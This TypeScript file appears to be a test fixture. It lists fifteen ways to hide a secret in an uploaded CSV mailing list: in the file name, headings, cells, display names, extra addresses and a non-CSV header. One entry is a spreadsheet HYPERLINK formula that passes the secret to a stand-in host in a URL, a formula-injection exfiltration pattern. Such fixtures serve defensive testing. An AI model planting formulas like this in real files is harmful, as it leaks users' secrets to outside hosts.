/** Where in a list that somebody gives a secret can stand: its name, and what is in it. `p` is somebody's address. */
export const LISTS: Record<string, (secret: string, p: string) => readonly [name: string, text: string]> = {
  "the file's name": (secret, p) => [`${secret.replaceAll("/", "_")}.csv`, `email\n${p}`],
  "a heading": (secret, p) => ["list.csv", `email;${secret}\n${p};x`],
  "a long heading": (secret, p) => ["list.csv", `${"x".repeat(20)} ${secret},email\nx,${p}`],
  "the heading of the addresses": (secret, p) => ["list.csv", `"e-mail [${secret}]"\n${p}`],
  "a cell that nobody reads": (secret, p) => ["list.csv", `email;note\n${p};${secret}`],
  "a cell beside an address": (secret, p) => ["list.csv", `${secret},${p}`],
  "a cell for an address": (secret, p) => ["list.csv", `email\n${p}\n${secret}`],
  "a name before an address": (secret, p) => ["list.csv", `email\n"${secret} <${p}>"`],
  "among several addresses": (secret, p) => ["list.csv", `email\n"${p}, ${secret}; q${p}"`],
  "an address": (secret, p) => ["list.csv", `email\n${p}\n${secret}@lumen.example`],
  "a line": (secret, p) => ["list.csv", `${p}\ntoken ${secret}\n`],
  "a formula": (secret, p) => ["list.csv", `email\n${p}\n"=HYPERLINK(""https://x.example/?k=${secret}"")"`],
  "a long cell": (secret, p) => ["list.csv", `email\n${p}\n${"word ".repeat(120)}${secret}`],
  "a list without addresses": (secret) => ["list.csv", `email\n${secret}`],
  "no CSV": (secret) => ["list.csv", `PK\u0003\u0004\u0000${secret}`],
};
